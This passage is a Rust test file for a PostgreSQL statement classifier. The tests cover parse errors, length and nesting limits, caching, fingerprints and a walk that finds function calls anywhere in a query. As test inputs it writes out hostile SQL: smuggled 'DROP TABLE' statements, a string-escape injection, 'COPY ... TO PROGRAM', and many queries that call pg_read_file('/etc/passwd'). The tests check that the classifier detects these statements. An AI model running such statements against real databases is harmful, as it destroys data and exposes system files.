        (K::Show, Some("server_version"))
    );
    assert_eq!(one("SHOW ALL").setting.as_deref(), Some("all"));
    let s = one("RESET ALL");
    assert_eq!((s.kind, s.setting), (K::Reset, None));
    assert_eq!(one("RESET statement_timeout").kind, K::Reset);
    let s = one("SELECT 1");
    assert_eq!(s, Statement::empty(K::Select, 0..8));
}

// ---------------------------------------------------------------------------------------------
// Errors, limits, depth, names, the cache.

#[test]
fn parse_errors_carry_the_parsers_message() {
    match classify("SELEC pan FROM cards") {
        Err(ClassifyError::Parse { message }) => {
            assert!(
                message.contains("syntax error at or near \"SELEC\""),
                "{message}"
            )
        }
        other => panic!("{other:?}"),
    }
    assert!(matches!(
        classify("SELECT 'unterminated"),
        Err(ClassifyError::Parse { .. })
    ));
    // One bad statement fails the whole text: nothing of it is described as harmless.
    assert!(matches!(
        classify("SELECT 1; DROP TABLE"),
        Err(ClassifyError::Parse { .. })
    ));
    assert_eq!(
        classify("SELECT 1\0; DROP TABLE cards"),
        Err(ClassifyError::Parse {
            message: "the statement text contains a NUL byte".to_owned()
        })
    );
}

#[test]
fn too_long_is_refused_before_parsing() {
    assert_eq!(
        classify_with("SELECT 1", 7, Syntax::default()),
        Err(ClassifyError::TooLong { len: 8, max: 7 })
    );
    assert!(classify_with("SELECT 1", 8, Syntax::default()).is_ok());
    // Not even parsed: garbage over the cap is TooLong, not Parse.
    assert_eq!(
        classify_with("garbage!", 3, Syntax::default()),
        Err(ClassifyError::TooLong { len: 8, max: 3 })
    );
    let big = format!("SELECT {}", "1,".repeat(DEFAULT_MAX_LEN));
    assert!(matches!(classify(&big), Err(ClassifyError::TooLong { .. })));
    let classifier = Classifier::new(16, 8);
    assert_eq!(
        classifier.classify("SELECT 1 FROM cards").map(|_| ()),
        Err(ClassifyError::TooLong { len: 19, max: 16 })
    );
}

fn nested_parens(n: usize) -> String {
    format!("SELECT {}1{}", "(".repeat(n), ")".repeat(n))
}

fn nested_subqueries(n: usize) -> String {
    format!(
        "SELECT * FROM {}cards{}",
        "(SELECT * FROM ".repeat(n),
        ") s".repeat(n)
    )
}

fn long_sum(n: usize) -> String {
    format!("SELECT {}", vec!["a"; n].join(" + "))
}

#[test]
fn deep_nesting_is_an_error_never_a_crash() {
    let classifier = Classifier::new(DEFAULT_MAX_LEN, 0);
    // Ordinary depths classify.
    let s = classifier.classify(&nested_subqueries(22)).unwrap();
    assert_eq!(s.statements[0].reads, names(&["cards"]));
    assert!(classifier.classify(&long_sum(46)).is_ok());
    let many = format!(
        "SELECT 1 FROM t WHERE {}",
        vec!["(a = 1 AND b = $1)"; 5_000].join(" OR ")
    );
    assert!(classifier.classify(&many).is_ok());
    // Parentheses alone build no nodes.
    assert!(classifier.classify(&nested_parens(1000)).is_ok());
    // Past the limits, TooDeep: from the decoder (23 subqueries, 47 terms), from the grammar's
    // stack (10,000 parentheses), or from libpg_query's stack check.
    for sql in [
        nested_subqueries(23),
        nested_subqueries(10_000),
        long_sum(47),
        long_sum(100_000),
        nested_parens(10_000),
        format!("SELECT {}1{}", "ARRAY[".repeat(5_000), "]".repeat(5_000)),
        format!(
            "SELECT {}1{}",
            "coalesce(a, ".repeat(5_000),
            ")".repeat(5_000)
        ),
    ] {
        assert_eq!(
            classifier.classify(&sql).map(|_| ()),
            Err(ClassifyError::TooDeep),
            "{}",
            &sql[..40]
        );
    }
}

#[test]
fn deep_nesting_on_a_small_stack_is_still_an_error() {
    // The free function on a thread with a quarter of a tokio worker's stack: libpg_query sizes
    // its depth check to the stack it finds, and the decoder's limit holds whatever the stack.
    let outcome = std::thread::Builder::new()
        .stack_size(512 << 10)
        .spawn(|| {
            [
                nested_subqueries(10_000),
                long_sum(100_000),
                nested_parens(10_000),
                format!("SELECT {}1{}", "ARRAY[".repeat(5_000), "]".repeat(5_000)),
            ]
            .iter()
            .map(|sql| classify(sql).map(|_| ()))
            .collect::<Vec<_>>()
        })
        .unwrap()
        .join()
        .unwrap();
    assert_eq!(outcome, vec![Err(ClassifyError::TooDeep); 4]);
}

#[test]
fn cache_hits_return_the_same_classification() {
    let classifier = Classifier::new(DEFAULT_MAX_LEN, 4);
    let first = classifier.classify("SELECT pan FROM cards").unwrap();
    let second = classifier.classify("SELECT pan FROM cards").unwrap();
    assert!(Arc::ptr_eq(&first, &second));
    // Exact text: another spelling is another entry (with the same fingerprint).
    let other = classifier.classify("select pan from cards").unwrap();
    assert!(!Arc::ptr_eq(&first, &other));
    assert_eq!(first.fingerprint, other.fingerprint);
    assert_eq!(first.statements, other.statements);
    // Bounded: the fifth distinct text evicts about half.
    for i in 0..20 {
        classifier.classify(&format!("SELECT {i}")).unwrap();
        assert!(classifier.cached_entries() <= 4);
    }
    // Errors are not cached.
    assert!(classifier.classify("SELEC").is_err());
    assert!(classifier.classify("SELEC").is_err());
    // Without a cache, every call classifies afresh.
    let uncached = Classifier::new(DEFAULT_MAX_LEN, 0);
    let a = uncached.classify("SELECT 1").unwrap();
    let b = uncached.classify("SELECT 1").unwrap();
    assert!(!Arc::ptr_eq(&a, &b) && a == b);
}

#[tokio::test]
async fn classify_async_runs_on_the_workers_and_shares_the_cache() {
    let classifier = Arc::new(Classifier::new(DEFAULT_MAX_LEN, 16));
    let a = classifier
        .classify_async("WITH d AS (DELETE FROM cards RETURNING *) SELECT * FROM d")
        .await
        .unwrap();
    assert_eq!(a.statements[0].writes, names(&["cards"]));
    let b = classifier
        .classify("WITH d AS (DELETE FROM cards RETURNING *) SELECT * FROM d")
        .unwrap();
    assert!(Arc::ptr_eq(&a, &b));
    assert_eq!(
        classifier
            .classify_async(&nested_subqueries(10_000))
            .await
            .map(|_| ()),
        Err(ClassifyError::TooDeep)
    );
    let tasks: Vec<_> = (0..32)
        .map(|i| {
            let classifier = Arc::clone(&classifier);
            tokio::spawn(async move {
                classifier
                    .classify_async(&format!("SELECT {i} FROM t"))
                    .await
            })
        })
        .collect();
    for task in tasks {
        assert_eq!(
            task.await.unwrap().unwrap().statements[0].reads,
            names(&["t"])
        );
    }
}

#[test]
fn fingerprints_ignore_constants_but_not_names() {
    let fp = |sql: &str| classify(sql).unwrap().fingerprint;
    assert_eq!(
        fp("SELECT pan FROM cards WHERE id = 1"),
        fp("select pan from cards where id = 2")
    );
    assert_eq!(
        fp("SELECT * FROM cards"),
        fp("SELECT * FROM cards /* note */")
    );
    assert_ne!(
        fp("SELECT * FROM public.cards c"),
        fp("SELECT * FROM secret.cards c")
    );
    assert_ne!(fp("SELECT * FROM cards c"), fp("SELECT * FROM orders c"));
    assert_ne!(fp("SELECT * FROM cards_01"), fp("SELECT * FROM cards_02"));
    assert_ne!(
        fp("COPY cards TO PROGRAM 'a'"),
        fp("COPY cards TO PROGRAM 'b'")
    );
    // Constants are constants wherever they are: an approval of a fingerprint covers these.
    assert_eq!(fp("SET ROLE a"), fp("SET ROLE b"));
    assert_eq!(
        fp("SELECT pg_read_file('/a')"),
        fp("SELECT pg_read_file('/b')")
    );
    assert_eq!(
        fp("SELECT pan FROM cards LIMIT 10"),
        fp("SELECT pan FROM cards LIMIT ALL")
    );
    assert_eq!(fp("SELECT 1").len(), 16);
}

#[test]
fn kind_names_round_trip_and_match_serde() {
    for (index, (kind, name)) in StatementKind::ALL.iter().enumerate() {
        assert_eq!(*kind as usize, index, "{name}");
        assert_eq!(kind.as_str(), *name);
        assert_eq!(StatementKind::from_name(name), Some(*kind));
        assert_eq!(serde_json::to_string(kind).unwrap(), format!("\"{name}\""));
        assert_eq!(kind.to_string(), *name);
    }
    assert_eq!(StatementKind::from_name("Select"), None);
    assert_eq!(StatementKind::from_name("drop_table"), None);
}

#[test]
fn statements_serialize_for_recordings() {
    let s = one("COPY cards TO STDOUT");
    let json = serde_json::to_value(&s).unwrap();
    assert_eq!(json["kind"], "copy");
    assert_eq!(json["reads"][0]["name"], "cards");
    assert_eq!(json["copy"]["direction"], "to");
    assert_eq!(json["text_range"]["start"], 0);
}

#[test]
fn string_syntax_follows_standard_conforming_strings() {
    let sql = r"SELECT 'x\''; DROP TABLE cards; --'";
    let standard = classify(sql).unwrap();
    let kinds: Vec<_> = standard.statements.iter().map(|s| s.kind).collect();
    assert_eq!(kinds, [K::Select]);
    let legacy = Syntax {
        standard_conforming_strings: false,
    };
    let escaped = classify_with(sql, DEFAULT_MAX_LEN, legacy).unwrap();
    let kinds: Vec<_> = escaped.statements.iter().map(|s| s.kind).collect();
    assert_eq!(kinds, [K::Select, K::Drop]);
    // E'' strings always take backslash escapes: both readings agree.
    let sql = r"SELECT E'x\''; DROP TABLE cards; --'";
    assert_eq!(classify(sql).unwrap().statements.len(), 2);

    // The cache keeps the two readings apart.
    let classifier = Classifier::new(DEFAULT_MAX_LEN, 8);
    let sql = r"SELECT 'x\''; DROP TABLE cards; --'";
    assert_eq!(classifier.classify(sql).unwrap().statements.len(), 1);
    assert_eq!(
        classifier
            .classify_with(sql, legacy)
            .unwrap()
            .statements
            .len(),
        2
    );
    assert_eq!(classifier.classify(sql).unwrap().statements.len(), 1);
    assert_eq!(classifier.cached_entries(), 2);
}

/// The walk reaches every node: a call hidden anywhere the grammar allows an expression is
/// found. `{F}` stands for `pg_read_file('/etc/passwd')`.
#[test]
fn a_call_is_found_wherever_an_expression_can_be() {
    let templates = [
        "SELECT {F}",
        "SELECT ({F})",
        "SELECT {F}::text",
        "SELECT CAST({F} AS text)",
        "SELECT {F} COLLATE \"C\"",
        "SELECT ({F}).x",
        "SELECT ARRAY[{F}]",
        "SELECT ROW({F})",
        "SELECT a[{F}] FROM t",
        "SELECT a[1:{F}] FROM t",
        "SELECT CASE WHEN {F} THEN 1 END",
        "SELECT CASE {F} WHEN 1 THEN 2 ELSE 3 END",
        "SELECT COALESCE({F}, 1)",
        "SELECT GREATEST({F}, 1)",
        "SELECT NULLIF({F}, 1)",
        "SELECT {F} IS DISTINCT FROM 1",
        "SELECT {F} IS NULL",
        "SELECT NOT {F}",
        "SELECT {F} IN (1, 2)",
        "SELECT 1 = ANY (ARRAY[{F}])",
        "SELECT {F} BETWEEN 1 AND 2",
        "SELECT {F} LIKE 'x'",
        "SELECT {F} AT TIME ZONE 'UTC'",
        "SELECT EXTRACT(year FROM {F})",
        "SELECT SUBSTRING({F} FROM 1 FOR 2)",
        "SELECT POSITION('a' IN {F})",
        "SELECT TRIM(BOTH FROM {F})",
        "SELECT OVERLAY({F} PLACING 'x' FROM 1)",
        "SELECT xmlelement(name x, {F})",
        "SELECT json_object('a': {F})",
        "SELECT JSON_VALUE({F}, '$.a')",
        "SELECT * FROM JSON_TABLE({F}, '$' COLUMNS (a int PATH '$.a')) j",
        "SELECT * FROM XMLTABLE('/x' PASSING {F} COLUMNS a int PATH 'a') x",
        "SELECT 1 WHERE EXISTS (SELECT {F})",
        "SELECT (SELECT 1 WHERE {F})",
        "SELECT count(*) FILTER (WHERE {F}) FROM t",
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY {F}) FROM t",
        "SELECT string_agg(a, ',' ORDER BY {F}) FROM t",
        "SELECT rank() OVER w FROM t WINDOW w AS (PARTITION BY {F})",
        "SELECT sum(a) OVER (ORDER BY {F} ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM t",
        "SELECT 1 FROM t GROUP BY ROLLUP ({F})",
        "SELECT 1 FROM t GROUP BY GROUPING SETS (({F}))",
        "SELECT 1 FROM t HAVING {F}",
        "SELECT 1 FROM t ORDER BY {F}",
        "SELECT DISTINCT ON ({F}) a FROM t",
        "SELECT 1 LIMIT {F}",
        "SELECT 1 OFFSET {F}",
        "SELECT * FROM t, LATERAL (SELECT {F}) s",
        "SELECT * FROM ROWS FROM (generate_series(1, 2), {F}) r",
        "SELECT * FROM t TABLESAMPLE BERNOULLI ({F})",
        "SELECT * FROM t JOIN u ON {F}",
        "VALUES ({F})",
        "INSERT INTO t VALUES ({F})",
        "INSERT INTO t SELECT {F}",
        "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = {F}",
        "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 1 WHERE {F}",
        "INSERT INTO t VALUES (1) RETURNING {F}",
        "UPDATE t SET a = {F}",
        "UPDATE t SET (a, b) = (SELECT {F}, 1)",
        "DELETE FROM t WHERE {F}",
        "MERGE INTO t USING u ON t.a = u.a WHEN MATCHED AND {F} THEN DELETE",
        "MERGE INTO t USING u ON t.a = u.a WHEN NOT MATCHED THEN INSERT VALUES ({F})",
        "COPY t FROM STDIN WHERE {F}",
        "COPY (SELECT {F}) TO STDOUT",
        "CREATE TABLE t (a text DEFAULT {F})",
        "CREATE TABLE t (a text GENERATED ALWAYS AS ({F}) STORED)",
        "CREATE TABLE t (a text CHECK ({F} IS NOT NULL))",
        "CREATE TABLE t AS SELECT {F}",
        "CREATE VIEW v AS SELECT {F}",
        "CREATE INDEX i ON t (({F}))",
        "CREATE INDEX i ON t (a) WHERE {F} IS NOT NULL",
        "CREATE POLICY p ON t USING ({F} IS NOT NULL)",
        "CREATE POLICY p ON t WITH CHECK ({F} IS NOT NULL)",
        "CREATE DOMAIN d AS text CHECK (VALUE <> {F})",
        "CREATE TRIGGER tg BEFORE UPDATE ON t FOR EACH ROW WHEN ({F} IS NULL) EXECUTE FUNCTION f()",
        "CREATE FUNCTION f(a text DEFAULT {F}) RETURNS int LANGUAGE sql RETURN 1",
        "CREATE STATISTICS s ON ({F} IS NULL) FROM t",
        "CREATE RULE r AS ON INSERT TO t WHERE {F} IS NULL DO NOTHING",
        "ALTER TABLE t ADD CONSTRAINT c CHECK ({F} IS NOT NULL)",
        "ALTER TABLE t ALTER COLUMN a TYPE text USING {F}",
        "ALTER TABLE t ALTER COLUMN a SET DEFAULT {F}",
        "CALL p({F})",
        "EXECUTE p({F})",
        "PREPARE q AS SELECT {F}",
        "EXPLAIN SELECT {F}",
        "DECLARE c CURSOR FOR SELECT {F}",
        "WITH x AS (SELECT {F}) SELECT * FROM x",
        "WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x WHERE {F}) SELECT * FROM x",
        "SELECT 1 UNION SELECT {F}",
        "CREATE SCHEMA s CREATE VIEW v AS SELECT {F}",
    ];
    for template in templates {
        let sql = template.replace("{F}", "pg_read_file('/etc/passwd')");
        let s = one(&sql);
        assert!(
            has_function(&s, None, "pg_read_file"),
            "{sql}: {:?}",
            s.functions
        );
    }
}

mod arbitrary {
    use proptest::prelude::*;

    use super::super::{ClassifyError, classify};

    const TOKENS: &[&str] = &[
        "SELECT",
        "*",
        "FROM",
        "cards",
        "c",
        "WHERE",
        "(",
        ")",
        ",",
        ";",
        "WITH",
        "AS",
        "DELETE",
        "INSERT",
        "INTO",
        "VALUES",
        "UPDATE",
        "SET",
        "RETURNING",
        "UNION",
        "JOIN",
        "ON",
        "=",
        "1",
        "'x'",
        "$1",
        "$$a$$",
        "pg_read_file",
        ".",
        "public",
        "\"Q\"",
        "LIMIT",
        "ALL",
        "DO",
        "COPY",
        "TO",
        "STDOUT",
        "PROGRAM",
        "ROLE",
        "RESET",
        "PREPARE",
        "EXECUTE",
        "EXPLAIN",
        "LATERAL",
        "ARRAY",
        "[",
        "]",
        "::",
        "int",
        "CASE",
        "WHEN",
        "THEN",
        "END",
        "--\n",
        "/**/",
    ];

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]

        /// No text makes the parser wrapper or the walk panic (a panic would surface as
        /// `Internal`).
        #[test]
        fn token_soup_never_panics(tokens in prop::collection::vec(prop::sample::select(TOKENS), 0..48)) {
            let sql = tokens.join(" ");
            prop_assert!(!matches!(classify(&sql), Err(ClassifyError::Internal { .. })), "{}", sql);
        }

        #[test]
        fn any_text_never_panics(sql in "\\PC{0,160}") {
            prop_assert!(!matches!(classify(&sql), Err(ClassifyError::Internal { .. })), "{}", sql);
        }
    }
}
